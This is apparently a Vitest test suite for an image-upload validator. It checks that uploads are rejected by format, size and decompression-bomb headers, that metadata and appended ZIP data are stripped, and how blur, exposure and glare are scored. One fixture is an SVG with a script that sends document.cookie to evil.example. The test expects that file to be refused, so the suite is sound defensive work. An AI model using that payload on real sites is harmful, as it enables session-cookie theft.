// inspectUpload on real bytes: every real-world fixture with the outcome its README lists, hostile and
// wrong-format uploads, the sanitised copy (orientation, sRGB, no metadata, no appended payload), the
// heuristics on generated good/bad variants with their measured values, and the perceptual hash.
import { readFile } from 'node:fs/promises';
import sharp, { type Sharp } from 'sharp';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import {
  DUPLICATE_MAX_DISTANCE,
  HEIC_DECODABLE,
  hammingDistance,
  type Inspection,
  inspectUpload,
  isSrgbProfile,
} from '../../src/modules/documents/checks.sharp.ts';
import { headerDimensions } from '../../src/modules/documents/checks.rules.ts';
import { DEFAULT_THRESHOLDS as T } from '../../src/modules/documents/checks.thresholds.ts';

// Counts every sharp() call, so the tests can prove which uploads never reach a decoder.
const sharpCalls = vi.hoisted(() => ({ count: 0 }));
vi.mock('sharp', async (importOriginal) => {
  const real = ((await importOriginal()) as typeof import('sharp')).default;
  const counted = new Proxy(real, {
    apply(target, thisArg, args) {
      sharpCalls.count += 1;
      return Reflect.apply(target, thisArg, args);
    },
  });
  return { default: counted };
});

const fixture = (name: string) => readFile(new URL(`../fixtures/real-world/${name}`, import.meta.url));
const fixturePath = (name: string) => new URL(`../fixtures/real-world/${name}`, import.meta.url).pathname;

function check(r: Inspection, rule: string) {
  const c = r.checks.find((x) => x.rule === rule);
  if (!c) throw new Error(`no ${rule} check in [${r.checks.map((x) => x.rule).join(', ')}]`);
  return c as {
    rule: string;
    passed: boolean;
    hard: boolean;
    measured: Record<string, unknown>;
    message: string;
  };
}

const failedRules = (r: Inspection) => r.checks.filter((c) => !c.passed).map((c) => c.rule);

async function sharpCallsDuring(fn: () => Promise<unknown>): Promise<number> {
  const before = sharpCalls.count;
  await fn();
  return sharpCalls.count - before;
}

describe('real-world fixtures (test/fixtures/real-world/README.md)', () => {
  it.each([
    ['Landscape_1.jpg', 600, 450],
    ['Landscape_2.jpg', 600, 450],
    ['Landscape_3.jpg', 600, 450],
    ['Landscape_4.jpg', 600, 450],
    ['Landscape_5.jpg', 600, 450],
    ['Landscape_6.jpg', 600, 450],
    ['Landscape_7.jpg', 600, 450],
    ['Landscape_8.jpg', 600, 450],
    ['Portrait_6.jpg', 450, 600],
  ])('%s is auto-oriented to %i x %i and too small for an ID photo', async (name, width, height) => {
    const r = await inspectUpload({ path: fixturePath(name) }, 'ID_FRONT');
    expect(r.kind).toBe('image');
    expect([r.width, r.height]).toEqual([width, height]);
    const resolution = check(r, 'resolution');
    expect(resolution).toMatchObject({ passed: false, hard: true, measured: { width, height } });
    expect(resolution.message).toContain(`This photo is ${width} x ${height}; we need at least 1000 px`);
    expect(failedRules(r)).toEqual(['resolution']);
    expect(check(r, 'integrity').passed).toBe(true);
    expect(r.sanitised).toBeUndefined();
    // the card-number guard reads every decodable image, whatever the resolution rule says (issue 12.2)
    expect(r.ocrInput?.subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
  });

  it('Landscape_1 and Landscape_6 (same picture, EXIF orientation 1 vs 6) hash alike after orientation', async () => {
    const a = await inspectUpload({ buffer: await fixture('Landscape_1.jpg') }, 'CARD_FRONT');
    const b = await inspectUpload({ buffer: await fixture('Landscape_6.jpg') }, 'CARD_FRONT');
    expect(hammingDistance(a.perceptualHash!, b.perceptualHash!)).toBeLessThanOrEqual(2);
  });

  it('2569067123_aca715a2ee_o.jpg (real 2725x2225 photo) passes every rule and yields a stored copy', async () => {
    const r = await inspectUpload({ buffer: await fixture('2569067123_aca715a2ee_o.jpg') }, 'ID_FRONT');
    expect(r.kind).toBe('image');
    expect(r.format).toBe('jpeg');
    expect(failedRules(r)).toEqual([]);
    expect(r.passed).toBe(true);
    expect(r.checks.map((c) => c.rule)).toEqual([
      'size',
      'format',
      'pixels',
      'integrity',
      'resolution',
      'sharpness',
      'exposure',
      'glare',
      'colour',
    ]);
    expect(check(r, 'resolution').measured).toEqual({ width: 2725, height: 2225 });
    expect(check(r, 'pixels').measured).toEqual({ width: 2725, height: 2225, megapixels: 6.1 });
    expect(check(r, 'size').measured).toEqual({ bytes: 829183 });
    expect(check(r, 'sharpness').measured.laplacianVariance).toBeGreaterThan(2 * T.minSharpness);
    expect(check(r, 'exposure').measured).toEqual({
      meanLuminance: expect.closeTo(82, 0),
      contrast: expect.closeTo(46, 0),
      shadowLevel: expect.any(Number),
    });
    expect(check(r, 'glare').measured.specularShare).toBeLessThan(0.01);
    expect(check(r, 'colour').measured.colourfulness).toBeGreaterThan(T.minColourfulness);
    expect(r.perceptualHash).toMatch(/^[0-9a-f]{16}$/);

    const stored = await sharp(r.sanitised!.bytes).metadata();
    expect(r.sanitised!.mimeType).toBe('image/jpeg');
    expect([stored.format, stored.width, stored.height, stored.space, stored.channels]).toEqual([
      'jpeg',
      2725,
      2225,
      'srgb',
      3,
    ]);
    const ocr = await sharp(r.ocrInput!).metadata();
    expect(ocr.format).toBe('jpeg');
    expect(ocr.channels).toBe(1);
    expect(ocr.width).toBeGreaterThanOrEqual(1300);
    expect(ocr.width).toBeLessThanOrEqual(2000);
    expect(r.timings?.totalMs).toBeGreaterThan(0);
  });

  it('truncated.jpg: the header reads 2725x2225 but the decode fails, so it is rejected as incomplete', async () => {
    const r = await inspectUpload({ path: fixturePath('truncated.jpg') }, 'ID_FRONT');
    expect(r.kind).toBe('rejected');
    expect(check(r, 'pixels')).toMatchObject({ passed: true, measured: { width: 2725, height: 2225 } });
    expect(check(r, 'integrity')).toMatchObject({
      passed: false,
      hard: true,
      measured: { decoded: false, failure: 'truncated' },
    });
    expect(r.sanitised).toBeUndefined();
    expect(r.perceptualHash).toBeUndefined();
  });

  it('truncation is caught by the scaled (shrink-on-load) decode of a large JPEG and in PNGs', async () => {
    const big = await sharp(await fixture('2569067123_aca715a2ee_o.jpg'))
      .resize(3100) // measured at 1000 px: a shrink of 3.1, so sharp decodes it at 1/2 scale
      .jpeg({ quality: 80 })
      .toBuffer();
    const png = await sharp(await fixture('Landscape_1.jpg'))
      .resize(1200)
      .png()
      .toBuffer();
    for (const whole of [big, png]) {
      const cut = whole.subarray(0, Math.floor(whole.length * 0.7));
      for (const opts of [{ sanitise: false, ocrInput: false }, {}]) {
        const r = await inspectUpload({ buffer: cut }, 'CARD_FRONT', T, opts);
        expect(check(r, 'integrity').measured).toEqual({ decoded: false, failure: 'truncated' });
        expect(r.sanitised).toBeUndefined();
      }
    }
  });

  it('corrupt-header.jpg is rejected as unreadable', async () => {
    const r = await inspectUpload({ path: fixturePath('corrupt-header.jpg') }, 'ID_FRONT');
    expect(r.kind).toBe('rejected');
    expect(r.format).toBe('jpeg');
    expect(check(r, 'integrity')).toMatchObject({
      passed: false,
      hard: true,
      measured: { decoded: false, failure: 'unreadable-header' },
    });
  });

  it('giant-image.jpg (280 MP) is rejected from the header: no decoder call, memory flat', async () => {
    const bytes = await fixture('giant-image.jpg');
    const rssBefore = process.memoryUsage().rss;
    let r: Inspection | undefined;
    const calls = await sharpCallsDuring(async () => {
      r = await inspectUpload({ buffer: bytes }, 'ID_FRONT');
    });
    const grew = process.memoryUsage().rss - rssBefore;
    expect(calls).toBe(0); // the SOF marker says 20000 x 14000; sharp is not even asked for metadata
    expect(r!.kind).toBe('rejected');
    expect(r!.checks.map((c) => c.rule)).toEqual(['size', 'format', 'pixels']);
    expect(check(r!, 'pixels')).toMatchObject({
      passed: false,
      hard: true,
      measured: { width: 20000, height: 14000, megapixels: 280 },
    });
    // a decode would need 840 MB for the RGB pixels alone
    expect(grew).toBeLessThan(100 * 1024 * 1024);
  });

  it('Channel_digital_image_CMYK_color.jpg decodes (CMYK converted to sRGB) and is too small', async () => {
    const r = await inspectUpload({ path: fixturePath('Channel_digital_image_CMYK_color.jpg') }, 'ID_FRONT');
    expect(r.kind).toBe('image');
    expect(check(r, 'integrity').passed).toBe(true);
    expect(check(r, 'resolution').measured).toEqual({ width: 500, height: 333 });
    expect(failedRules(r)).toEqual(['resolution']);
    expect(check(r, 'colour').measured.colourfulness).toBeGreaterThan(15);
  });

  it('gamma_dalai_lama_gray.jpg (colour pixels the eye sees as grey) fails colour for ID slots only', async () => {
    const bytes = await fixture('gamma_dalai_lama_gray.jpg');
    const id = await inspectUpload({ buffer: bytes }, 'ID_BACK');
    const colour = check(id, 'colour');
    expect(colour.passed).toBe(false);
    expect(colour.measured.colourfulness).toBeLessThan(T.minColourfulness);
    expect(colour.message).toContain('black-and-white');
    const card = await inspectUpload({ buffer: bytes }, 'CARD_BACK');
    expect(check(card, 'colour').passed).toBe(true);
  });

  it('low-contrast.jpg is noticed by the exposure check (washed out)', async () => {
    const r = await inspectUpload({ path: fixturePath('low-contrast.jpg') }, 'CARD_FRONT');
    const exposure = check(r, 'exposure');
    expect(exposure.passed).toBe(false);
    expect(exposure.hard).toBe(false);
    expect(exposure.measured.contrast).toBeCloseTo(27, 0);
    expect(exposure.measured.contrast as number).toBeLessThan(T.minContrast);
    expect(exposure.message).toContain('washed out');
  });
});

// ---------------------------------------------------------------------------------------------------

/** A stored ZIP with one file, as appended to images by polyglot builders. */
function zipWith(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([local, Buffer.from(name), data]);
}

/** A 2x2 24-bit BMP, written by hand (sharp cannot write BMP). */
function bmp(): Buffer {
  const b = Buffer.alloc(54 + 16);
  b.write('BM', 0, 'latin1');
  b.writeUInt32LE(b.length, 2);
  b.writeUInt32LE(54, 10);
  b.writeUInt32LE(40, 14);
  b.writeInt32LE(2, 18);
  b.writeInt32LE(2, 22);
  b.writeUInt16LE(1, 26);
  b.writeUInt16LE(24, 28);
  return b;
}

function pseudoRandom(n: number, seed = 42): Buffer {
  const out = Buffer.alloc(n);
  let x = seed;
  for (let i = 0; i < n; i += 1) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    out[i] = x >> 16;
  }
  return out;
}

describe('header dimensions read without a decoder', () => {
  it('match what sharp reads for JPEG, PNG and the three WebP flavours', async () => {
    const base = sharp({ create: { width: 1234, height: 567, channels: 3, background: '#486' } });
    const files = [
      await base.clone().jpeg().toBuffer(),
      await base
        .clone()
        .jpeg({ progressive: true })
        .withExif({ IFD0: { Make: 'x' } })
        .toBuffer(),
      await base.clone().png().toBuffer(),
      await base.clone().webp().toBuffer(), // VP8
      await base.clone().webp({ lossless: true }).toBuffer(), // VP8L
      await base
        .clone()
        .ensureAlpha()
        .webp()
        .withExif({ IFD0: { Make: 'x' } })
        .toBuffer(), // VP8X
      await fixture('Landscape_6.jpg'),
    ];
    for (const f of files) {
      const meta = await sharp(f).metadata();
      expect(headerDimensions(f, meta.format === 'jpeg' ? 'jpeg' : meta.format!)).toEqual({
        width: meta.width,
        height: meta.height,
      });
    }
  });

  it('a PNG that declares 30000 x 30000 is refused without calling sharp', async () => {
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    png.writeUInt32BE(30000, 16);
    png.writeUInt32BE(30000, 20);
    let r: Inspection | undefined;
    expect(await sharpCallsDuring(async () => (r = await inspectUpload({ buffer: png }, 'ID_FRONT')))).toBe(
      0,
    );
    expect(check(r!, 'pixels')).toMatchObject({
      passed: false,
      measured: { width: 30000, height: 30000, megapixels: 900 },
    });
  });
});

describe('what is rejected from the bytes, before any decoder runs', () => {
  let gif: Buffer;
  let tiff: Buffer;
  beforeAll(async () => {
    const tiny = sharp({ create: { width: 8, height: 8, channels: 3, background: '#c33' } });
    gif = await tiny.clone().gif().toBuffer();
    tiff = await tiny.clone().tiff().toBuffer();
  });

  const svg =
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="2000" height="1200">' +
    '<script>fetch("https://evil.example/"+document.cookie)</script><rect width="2000" height="1200"/></svg>';
  const cases: [string, () => Buffer, string][] = [
    ['random bytes', () => pseudoRandom(50_000), 'unknown'],
    ['a GIF', () => gif, 'gif'],
    ['a TIFF', () => tiff, 'tiff'],
    ['a BMP', () => bmp(), 'bmp'],
    ['an SVG with a script', () => Buffer.from(svg), 'svg'],
    [
      'an ELF executable header',
      () => Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(56).fill(0)]),
      'elf',
    ],
    ['a Windows executable', () => Buffer.concat([Buffer.from('MZ'), pseudoRandom(1000)]), 'exe'],
    ['a ZIP', () => zipWith('a.txt', 'hello'), 'zip'],
  ];

  it.each(cases)('%s: format fails and sharp is never called', async (_name, make, detected) => {
    let r: Inspection | undefined;
    const calls = await sharpCallsDuring(async () => {
      r = await inspectUpload({ buffer: make() }, 'ID_FRONT');
    });
    expect(calls).toBe(0);
    expect(r!.kind).toBe('rejected');
    expect(r!.checks.map((c) => c.rule)).toEqual(['size', 'format']);
    expect(check(r!, 'format')).toMatchObject({ passed: false, hard: true, measured: { detected } });
    expect(check(r!, 'format').message).toContain('we accept JPEG, PNG, WebP or AVIF');
  });

  it('an empty file fails size, with nothing else run', async () => {
    const r = await inspectUpload({ buffer: Buffer.alloc(0) }, 'CARD_FRONT');
    expect(r.kind).toBe('rejected');
    expect(r.format).toBeNull();
    expect(r.checks).toHaveLength(1);
    expect(check(r, 'size')).toMatchObject({ passed: false, hard: true, measured: { bytes: 0 } });
  });

  it('more than 10 MB fails size without looking at the content', async () => {
    const big = Buffer.alloc(T.maxBytes + 1);
    big.set([0xff, 0xd8, 0xff, 0xe0]);
    let r: Inspection | undefined;
    expect(await sharpCallsDuring(async () => (r = await inspectUpload({ buffer: big }, 'ID_FRONT')))).toBe(
      0,
    );
    expect(check(r!, 'size')).toMatchObject({ passed: false, measured: { bytes: 10 * 1024 * 1024 + 1 } });
  });

  it('an HEIC photo is explained, not decoded (this sharp build has no HEVC decoder)', async () => {
    expect(HEIC_DECODABLE).toBe(false);
    const head = Buffer.alloc(24);
    head.writeUInt32BE(24, 0);
    head.write('ftypheic', 4, 'latin1');
    head.write('mif1heic', 16, 'latin1');
    const r = await inspectUpload({ buffer: Buffer.concat([head, pseudoRandom(2000)]) }, 'ID_FRONT');
    expect(check(r, 'format')).toMatchObject({ passed: false, measured: { detected: 'heic' } });
    expect(check(r, 'format').message).toContain('HEIC');
  });

  it('a PNG named .jpg is read as the PNG it is (the name is irrelevant)', async () => {
    const path = new URL('../fixtures/images/png-named.jpg', import.meta.url).pathname;
    const r = await inspectUpload({ path }, 'CARD_FRONT');
    expect(r.format).toBe('png');
    expect(check(r, 'format').measured).toEqual({ detected: 'png', decoder: 'png' });
    expect(check(r, 'resolution')).toMatchObject({ passed: true, measured: { width: 1000, height: 640 } });
    // transparent PNG flattened onto white for the JPEG copy
    expect((await sharp(r.sanitised!.bytes).metadata()).hasAlpha).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------------

describe('the sanitised copy', () => {
  let photo: Buffer; // 1400 x 1143 colour JPEG
  beforeAll(async () => {
    photo = await sharp(await fixture('2569067123_aca715a2ee_o.jpg'))
      .resize(1400)
      .jpeg({ quality: 90 })
      .toBuffer();
  });

  it('drops EXIF with GPS, XMP, ICC and comments (generated with withExif)', async () => {
    const tagged = await sharp(photo)
      .withExif({
        IFD0: { Copyright: 'MARKER-EXIF-COPYRIGHT', Make: 'ExamplePhone' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '51/1 30/1 0/1',
          GPSLongitudeRef: 'W',
          GPSLongitude: '0/1 7/1 0/1',
        },
      })
      .withXmp(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>MARKER-XMP</x:xmpmeta>',
      )
      .withIccProfile('p3')
      .jpeg()
      .toBuffer();
    const input = await sharp(tagged).metadata();
    expect(input.exif?.includes('MARKER-EXIF-COPYRIGHT')).toBe(true);
    expect(input.exif?.includes(Buffer.from([0x25, 0x88]))).toBe(true); // GPS IFD pointer tag 0x8825
    expect(input.xmp).toBeDefined();
    expect(input.icc).toBeDefined();

    const r = await inspectUpload({ buffer: tagged }, 'CARD_FRONT');
    const stored = r.sanitised!.bytes;
    const meta = await sharp(stored).metadata();
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(meta.icc).toBeUndefined();
    expect(meta.space).toBe('srgb');
    expect(stored.includes('MARKER-EXIF-COPYRIGHT')).toBe(false);
    expect(stored.includes('MARKER-XMP')).toBe(false);
    expect(stored.includes('Exif\0\0')).toBe(false);
    expect(stored.includes('ExamplePhone')).toBe(false);
  });

  it('a JPEG with a ZIP appended is accepted, and the stored copy holds the pixels only', async () => {
    const polyglot = Buffer.concat([photo, zipWith('payload.txt', 'MARKER-ZIP-PAYLOAD')]);
    const r = await inspectUpload({ buffer: polyglot }, 'ID_FRONT');
    expect(r.format).toBe('jpeg');
    expect(check(r, 'format').passed).toBe(true);
    const stored = r.sanitised!.bytes;
    expect(stored.includes('MARKER-ZIP-PAYLOAD')).toBe(false);
    expect(stored.includes(Buffer.from([0x50, 0x4b, 0x03, 0x04]))).toBe(false);
    expect(stored.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9])); // ends at the JPEG end-of-image
  });

  it('applies the EXIF orientation to the pixels and keeps no orientation tag', async () => {
    const rotated = await sharp(photo).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    expect((await sharp(rotated).metadata()).orientation).toBe(6);
    const r = await inspectUpload({ buffer: rotated }, 'CARD_FRONT');
    expect([r.width, r.height]).toEqual([1143, 1400]);
    const stored = await sharp(r.sanitised!.bytes).metadata();
    expect([stored.width, stored.height, stored.orientation]).toEqual([1143, 1400, undefined]);
  });

  it('converts a Display P3 photo to sRGB, and leaves an sRGB-tagged one as it is', async () => {
    const orange = sharp({
      create: { width: 1200, height: 800, channels: 3, background: { r: 200, g: 100, b: 50 } },
    });
    const pixel = async (r: Inspection) => [
      ...(await sharp(r.sanitised!.bytes).raw().toBuffer()).subarray(0, 3),
    ];
    const p3 = await orange.clone().withIccProfile('p3').jpeg({ quality: 100 }).toBuffer();
    const p3Values = [...(await sharp(p3, { ignoreIcc: true }).raw().toBuffer()).subarray(0, 3)];
    const fromP3 = await inspectUpload({ buffer: p3 }, 'CARD_FRONT');
    // the file holds P3 numbers; the stored copy holds the sRGB numbers of the same colour again
    expect(p3Values).not.toEqual([200, 100, 50]);
    for (const [i, v] of (await pixel(fromP3)).entries())
      expect(Math.abs(v - [200, 100, 50][i]!)).toBeLessThanOrEqual(3);

    const srgb = await orange.clone().withIccProfile('srgb').jpeg({ quality: 100 }).toBuffer();
    expect(isSrgbProfile((await sharp(srgb).metadata()).icc)).toBe(true);
    for (const [i, v] of (await pixel(await inspectUpload({ buffer: srgb }, 'CARD_FRONT'))).entries()) {
      expect(Math.abs(v - [200, 100, 50][i]!)).toBeLessThanOrEqual(2);
    }
  });

  it('recognises sRGB profiles by their description', async () => {
    const icc = async (name: string) => (await sharp(await fixture(name)).metadata()).icc;
    expect(isSrgbProfile(await icc('low-contrast.jpg'))).toBe(true);
    expect(isSrgbProfile(await icc('Landscape_2.jpg'))).toBe(false); // Apple "Generic RGB Profile"
    expect(isSrgbProfile(await icc('Channel_digital_image_CMYK_color.jpg'))).toBe(false);
    expect(isSrgbProfile(undefined)).toBe(false);
  });

  it('converts a CMYK JPEG to sRGB', async () => {
    const cmyk = await sharp(photo).resize(1000).toColourspace('cmyk').jpeg().toBuffer();
    expect((await sharp(cmyk).metadata()).space).toBe('cmyk');
    const r = await inspectUpload({ buffer: cmyk }, 'ID_FRONT');
    const stored = await sharp(r.sanitised!.bytes).metadata();
    expect([stored.space, stored.channels]).toEqual(['srgb', 3]);
    expect(r.passed).toBe(true);
  });

  it('reads 16-bit and greyscale PNGs, WebP and AVIF', async () => {
    const png16 = await sharp(photo).toColourspace('rgb16').png().toBuffer();
    expect((await sharp(png16).metadata()).depth).toBe('ushort');
    const r16 = await inspectUpload({ buffer: png16 }, 'ID_FRONT');
    expect(r16.format).toBe('png');
    expect(r16.passed).toBe(true);
    expect(check(r16, 'exposure').measured.meanLuminance).toBeCloseTo(82, -1);

    const grey = await sharp(photo).greyscale().toColourspace('b-w').png().toBuffer();
    expect((await sharp(grey).metadata()).channels).toBe(1);
    const rg = await inspectUpload({ buffer: grey }, 'CARD_BACK');
    expect(rg.passed).toBe(true);
    expect((await sharp(rg.sanitised!.bytes).metadata()).channels).toBe(1);

    const webp = await inspectUpload({ buffer: await sharp(photo).webp().toBuffer() }, 'ID_FRONT');
    expect([webp.format, webp.passed]).toEqual(['webp', true]);
    const small = await sharp(photo).resize(1000).avif({ effort: 0, quality: 50 }).toBuffer();
    const avif = await inspectUpload({ buffer: small }, 'ID_FRONT');
    expect(check(avif, 'format').measured).toEqual({ detected: 'avif', decoder: 'avif' });
    expect(avif.passed).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------------

describe('heuristics on generated variants of a good photo', () => {
  let good: Buffer;
  let goodResult: Inspection;
  beforeAll(async () => {
    good = await sharp(await fixture('2569067123_aca715a2ee_o.jpg'))
      .resize(1400)
      .jpeg({ quality: 90 })
      .toBuffer();
    goodResult = await inspectUpload({ buffer: good }, 'ID_FRONT', T, { sanitise: false, ocrInput: false });
  });
  const inspect = async (p: Sharp, slot: 'ID_FRONT' | 'BILLING_STATEMENT' = 'ID_FRONT') =>
    inspectUpload({ buffer: await p.jpeg({ quality: 90 }).toBuffer() }, slot, T, {
      sanitise: false,
      ocrInput: false,
    });

  it('the good photo passes all of them', () => {
    expect(goodResult.passed).toBe(true);
    expect(check(goodResult, 'sharpness').measured.laplacianVariance).toBeGreaterThan(100);
  });

  it('sharpness: a blurred copy fails with its score', async () => {
    const r = await inspect(sharp(good).blur(4));
    const c = check(r, 'sharpness');
    expect(c.passed).toBe(false);
    expect(c.hard).toBe(false);
    expect(c.measured.laplacianVariance).toBeLessThan(10);
    expect(c.message).toMatch(/looks blurry \(sharpness score \d+; we need at least 40\)/);
    expect(failedRules(r)).toEqual(['sharpness']);
  });

  it('exposure: a darkened copy fails with its brightness', async () => {
    const r = await inspect(sharp(good).linear(0.3, 0));
    const c = check(r, 'exposure');
    expect(c.passed).toBe(false);
    expect(c.measured.meanLuminance).toBeCloseTo(82 * 0.3, -1);
    expect(c.message).toContain('too dark');
  });

  it('exposure and glare: an almost white copy fails both', async () => {
    const r = await inspect(sharp(good).linear(2.5, 120));
    expect(check(r, 'exposure').measured.meanLuminance as number).toBeGreaterThan(T.maxMeanLuminance);
    expect(check(r, 'exposure').passed).toBe(false);
    expect(check(r, 'glare').measured.blownOutShare as number).toBeGreaterThan(0.4);
    expect(check(r, 'glare').passed).toBe(false);
  });

  it('glare: a soft-edged reflection over a fifth of the photo fails with its share', async () => {
    // a highlight fades out at its rim; a hard-edged white rectangle would read as a white card instead
    const { width = 0, height = 0 } = await sharp(good).metadata();
    const r0 = Math.sqrt((0.2 * width * height) / Math.PI);
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
      <defs><radialGradient id="g"><stop offset="0.85" stop-color="#fff" stop-opacity="1"/><stop offset="1" stop-color="#fff" stop-opacity="0"/></radialGradient></defs>
      <circle cx="${width * 0.55}" cy="${height * 0.45}" r="${r0 * 1.08}" fill="url(#g)"/></svg>`;
    const r = await inspect(sharp(good).composite([{ input: Buffer.from(svg) }]));
    const c = check(r, 'glare');
    expect(c.passed).toBe(false);
    expect(c.measured.specularShare as number).toBeGreaterThan(0.15);
    expect(c.measured.specularShare as number).toBeLessThan(0.25);
    expect(c.message).toContain('hidden by glare');
  });

  it('colour: a greyscale copy fails hard; a copy under warm light fails soft', async () => {
    const grey = await inspect(sharp(good).greyscale());
    expect(check(grey, 'colour')).toMatchObject({
      passed: false,
      hard: true,
      measured: { colourfulness: 0, uncorrectedColourfulness: 0 },
    });
    const { data, info } = await sharp(good).greyscale().raw().toBuffer({ resolveWithObject: true });
    const warm = Buffer.alloc(info.width * info.height * 3);
    for (let i = 0; i < info.width * info.height; i += 1) {
      warm[i * 3] = data[i]!;
      warm[i * 3 + 1] = Math.round(data[i]! * 0.93);
      warm[i * 3 + 2] = Math.round(data[i]! * 0.78);
    }
    const tinted = await inspect(
      sharp(warm, { raw: { width: info.width, height: info.height, channels: 3 } }),
    );
    const c = check(tinted, 'colour');
    expect(c.passed).toBe(false);
    expect(c.hard).toBe(false);
    expect(c.measured.uncorrectedColourfulness as number).toBeGreaterThan(T.minColourfulness);
    expect(c.measured.colourfulness as number).toBeLessThan(2);
  });

  it('statements: a white screenshot is not "glare" and needs 1200 px on the long side', async () => {
    const lines = Array.from(
      { length: 30 },
      (_, i) =>
        `<text x="60" y="${120 + i * 50}" font-size="28" font-family="DejaVu Sans">2026-03-${String(i + 1).padStart(2, '0')}  CARD PAYMENT  **** 4242   -${(i * 7.3).toFixed(2)} EUR</text>`,
    ).join('');
    const page = sharp(
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" width="1080" height="1700"><rect width="1080" height="1700" fill="#fff"/>${lines}</svg>`,
      ),
    );
    const r = await inspect(page, 'BILLING_STATEMENT');
    expect(check(r, 'glare')).toMatchObject({ passed: true, threshold: null });
    expect(check(r, 'glare').measured.blownOutShare as number).toBeGreaterThan(0.5);
    expect(check(r, 'exposure').passed).toBe(true);
    expect(check(r, 'resolution')).toMatchObject({ passed: true, measured: { width: 1080, height: 1700 } });
    expect(r.passed).toBe(true);
  });
});

describe('perceptual hash', () => {
  it('re-encoded and resized copies stay within DUPLICATE_MAX_DISTANCE; other pictures do not', async () => {
    const original = await fixture('2569067123_aca715a2ee_o.jpg');
    const opts = { sanitise: false, ocrInput: false };
    const a = await inspectUpload({ buffer: original }, 'ID_FRONT', T, opts);
    const copy = await sharp(original).resize(1200).jpeg({ quality: 50 }).toBuffer();
    const b = await inspectUpload({ buffer: copy }, 'ID_BACK', T, opts);
    const other = await inspectUpload({ buffer: await fixture('Landscape_1.jpg') }, 'ID_BACK', T, opts);
    expect(hammingDistance(a.perceptualHash!, b.perceptualHash!)).toBeLessThanOrEqual(DUPLICATE_MAX_DISTANCE);
    expect(hammingDistance(a.perceptualHash!, other.perceptualHash!)).toBeGreaterThan(DUPLICATE_MAX_DISTANCE);
  });
});
